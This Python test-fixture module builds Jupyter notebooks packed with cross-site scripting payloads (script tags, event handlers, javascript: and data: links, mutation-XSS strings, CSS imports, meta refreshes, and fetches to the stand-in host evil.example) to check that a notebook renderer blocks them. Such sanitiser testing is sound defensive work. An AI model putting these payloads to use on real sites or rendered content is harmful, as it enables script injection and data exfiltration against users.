"""What a notebook may hold that would run, load, send or lead away: notebooks by name.

What a payload would do can be seen: it sets `window.ran`, asks `evil.example` or changes the page's title. No page made of these may do any of it.
"""
# ruff: noqa: E501 a payload is one line

from __future__ import annotations

import base64
import json

from nbformat import NotebookNode
from nbformat.v4 import new_output, new_raw_cell
from notebook_maker import code, notebook, text

RUN = "window.ran=1;document.title='ran';fetch('https://evil.example/f')"
ENTITIES = "".join(f"&#{ord(letter)};" for letter in "javascript:")
B64 = base64.b64encode(f"<script>parent.ran=1;{RUN}</script>".encode()).decode()
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '

# As the HTML of an output; each of them is tried as Markdown too.
AS_HTML = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<SCRIPT >{RUN}</ScRiPt\n>",
    "script split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script unclosed": f"<b>x<script>{RUN}",
    "module": f"<script type=module>{RUN}</script>",
    "script from a data address": f"<script src='data:text/javascript,{RUN}'></script>",
    "onerror": f'<img src="x" onerror="{RUN}">',
    "onload after a slash": f"<svg/onload={RUN}>",
    "onerror without quotes": "<img src=x: onerror=window.ran=1 >",
    "ontoggle": f'<details open ontoggle="{RUN}">x</details>',
    "onfocus": f'<input autofocus onfocus="{RUN}"><b tabindex=0 autofocus onfocus="{RUN}">x</b>',
    "animation": f'<style>@keyframes k{{}}</style><b style="animation:k 1s" onanimationstart="{RUN}">',
    "body onload": f'<body onload="{RUN}">',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "javascript link": f'<a class=c href="javascript:{RUN}">x</a>',
    "javascript link with a tab": f'<a class=c href="java\tscript:{RUN}">x</a>',
    "javascript link in entities": f'<a class=c href="{ENTITIES}{RUN}">x</a>',
    "data link": f'<a class=c href="data:text/html;base64,{B64}">x</a>',
    "vbscript link": '<a class=c href=" vbscript:x">x</a>',
    "area": f'<map name=m><area shape=default href="javascript:{RUN}"></map><img usemap=#m src=x>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/r">',
    "refresh to a script": f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    "policy of its own": "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "base": '<base href="https:evil.example"><base target="_top">',
    "srcdoc": f"<iframe srcdoc='<script>parent.ran=1;{RUN.replace(chr(39), chr(34))}</script>'></iframe>",
    "frame of a script": f'<iframe src="javascript:parent.ran=1"></iframe><frameset onload="{RUN}">',
    "frame of data": f'<iframe src="data:text/html;base64,{B64}"></iframe>',
    "object": f'<object data="data:text/html;base64,{B64}"></object>',
    "embed": f'<embed src="data:text/html;base64,{B64}" type="text/html">',
    "form": '<form action="javascript:window.ran=1"><input name=a><button>go</button></form>',
    "form that sends itself": "<form id=f action='https:evil.example'><input onfocus=f.submit() autofocus></form>",
    "formaction": f'<button formaction="javascript:{RUN}">x</button>',
    "prefetch": '<link rel=prefetch href="https:evil.example/p"><link rel=dns-prefetch href=x>',
    "style sheet": '<link rel=stylesheet href="data:text/css,@import url(https:evil.example)">',
    "import": "<style>@import 'https:evil.example/i.css';</style>",
    "import escaped": r"<style>@\69mport 'https:\2f\2f evil.example/i.css';</style>",
    "url escaped": r'<p style="background:\75rl(https:\2f\2f evil.example/u)">x</p>',
    "image-set": "<p style='background:image-set(\"https:evil.example/s\" 1x)'>x</p>",
    "font": "<style>@font-face{font-family:x;src:url(https:evil.example/f)}p{font-family:x}</style><p>x",
    "srcset": '<img alt="" srcset="https:evil.example/s 1x">',
    "ping": '<a class=c href="#x" ping="https:evil.example/ping">x</a>',
    "video": '<video src="data:video/mp4,x" onerror="window.ran=1" poster="https:evil.example/p">',
    "audio": f'<audio src=x onerror="{RUN}"><source src=x onerror="{RUN}"></audio>',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg link": f'<svg><a class=c xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    "svg animate": "<svg><a class=c><animate attributeName=href values=javascript:window.ran=1 />"
    "<text y=20>x</text></a></svg>",
    "svg set": f'<svg><set attributeName="onmouseover" to="{RUN}"/><g onload="{RUN}"/></svg>',
    "svg foreign object": f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    "svg use": f'<svg><use href="data:image/svg+xml;base64,{B64}#x"/></svg>',
    "svg image": '<svg><image href="https:evil.example/i.png" width=9 height=9 /></svg>',
    "math": f'<math><maction actiontype="statusline#{RUN}" xlink:href="javascript:{RUN}">x</maction></math>',
    "mutation by style": f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "mutation by math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation by title": f'<svg><title><style><img title="</style><img src=x onerror={RUN}>"></title></svg>',
    "mutation by template": f'<template><s><template><img src=x onerror="{RUN}"></template>',
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "conditional comment": f"<!--[if IE]><script>{RUN}</script><![endif]--><![CDATA[<img src=x onerror={RUN}>]]>",
    "textarea": f"<textarea><img src=x onerror={RUN}></textarea></pre><img src=x onerror={RUN}>",
    "end of the page": f"</main></body></html><script>{RUN}</script>",
    "end of the style": f"</style><script>{RUN}</script>",
    "nul": f"<scr\0ipt>{RUN}</scr\0ipt><img src=x on\0error={RUN}>",
    "clobbering": "<img name=getElementById src=x><form id=head><input name=attributes></form>",
    "handler in a table": f'<table background="https:evil.example/t"><td onmouseover="{RUN}">x',
}

# As something else that a notebook can hold.
OTHERS: dict[str, dict[str, object]] = {
    "javascript": {"application/javascript": RUN},
    "javascript beside text": {"application/javascript": RUN, "text/plain": "x"},
    "latex": {"text/latex": f"$x$<script>{RUN}</script>"},
    "plain": {"text/plain": f"\x1b[31m<script>{RUN}</script>\x1b]8;;javascript:{RUN}\x07x"},
    "vendor": {"application/vnd.evil.v1+html": f"<script>{RUN}</script>"},
    "vendor json": {"application/vnd.plotly.v1+json": {"data": f"<script>{RUN}</script>"}},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}"}},
    "mermaid": {"text/vnd.mermaid": f"<script>{RUN}</script>"},
    "pdf": {"application/pdf": B64},
    "png": {"image/png": f'x" onerror="{RUN}'},
    "jpeg": {"image/jpeg": f"x' onerror='{RUN}"},
    "svg": {"image/svg+xml": f"{SVG}onload='x()'><script>{RUN}</script></svg>"},
    "svg that ends early": {"image/svg+xml": f'</svg>"><script>{RUN}</script>'},
    "svg with an entity": {
        "image/svg+xml": f'<!DOCTYPE svg [<!ENTITY e "<script>{RUN}</script>">]>{SVG}>&e;</svg>'
    },
}
# Media types and names as metadata of an output.
METADATA: dict[str, tuple[str, dict[str, object]]] = {
    "alt": ("image/png", {"alt": f'"><script>{RUN}</script>'}),
    "alt of a drawing": ("image/svg+xml", {"alt": f'" onerror="{RUN}'}),
    "width": ("image/jpeg", {"width": f"1 onerror={RUN}", "height": f'2"><script>{RUN}</script>'}),
    "unconfined": ("image/jpeg", {"unconfined": True, "alt": f"' onerror='{RUN}"}),
    "isolated": ("text/html", {"isolated": True}),
}


def payloads() -> dict[str, NotebookNode]:
    """Notebooks by the name of what they try."""
    found = {}
    for name, html in AS_HTML.items():
        shown = new_output("display_data", {"text/html": html, "text/plain": "x"})
        said = new_output("display_data", {"text/markdown": f"# x\n\n{html}\n\n[x]({html})"})
        found[name] = notebook(code("f()", outputs=[shown]), text("after"))
        found[f"{name}, in Markdown"] = notebook(text(f"x {html}"), code("f()", outputs=[said]))
    for name, data in OTHERS.items():
        found[f"output: {name}"] = notebook(code("f()", outputs=[new_output("display_data", data)]))
    for name, (kind, metadata) in METADATA.items():
        data = {kind: f"<p>x<script>{RUN}</script>" if kind == "text/html" else "x"}
        of_kind = {"filenames": {kind: f"x' onerror='{RUN}"}} | {kind: metadata}
        output = new_output("display_data", data, metadata=of_kind)
        found[f"metadata: {name}"] = notebook(code("f()", outputs=[output]))
    return found | _elsewhere()


def _elsewhere() -> dict[str, NotebookNode]:
    attached = text("![x](attachment:a.svg) ![y](attachment:b)")
    attached["attachments"] = {
        "a.svg": {"image/svg+xml": f"{SVG}><script>{RUN}</script></svg>"},
        "b": {f'text/html"><script>{RUN}</script>': B64},
    }
    raw = new_raw_cell(f"<script>{RUN}</script>", metadata={"raw_mimetype": "text/html"})
    plain = new_raw_cell(f"<script>{RUN}</script>")
    named = notebook(text(f"# <img src=x onerror={RUN}> `</title><script>{RUN}</script>`"))
    named.metadata |= {
        "title": f"</title><script>{RUN}</script>",
        "language_info": {"name": f"<script>{RUN}</script>", "pygments_lexer": "html"},
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {
                "state": {"</script>": json.dumps(f"<script>{RUN}</script>")}
            }
        },
    }
    error = new_output("error", ename="E", evalue="", traceback=[f"<script>{RUN}</script>"])
    stream = new_output("stream", name="stdout", text=f"<script>{RUN}</script>\x1b[1m<img src=x>")
    tagged = code(f"</div><script>{RUN}</script>", f'"><script>{RUN}</script>')
    links = text(
        f"[x](javascript:{RUN}) [y](<JaVaScRiPt:{RUN}>) ![z](javascript:{RUN})\n\n"
        f"<javascript:{RUN}>\n\n[r]\n\n[r]: javascript:{RUN}\n\n```html\n<script>{RUN}</script>\n```"
        f"\n\n$</script><script>{RUN}</script>$"
    )
    return {
        "attachments": notebook(attached),
        "raw": notebook(raw, plain),
        "title and notebook's metadata": named,
        "error and stream": notebook(code("f()", outputs=[error, stream])),
        "code and tags": notebook(tagged),
        "Markdown's own links": notebook(links),
    }
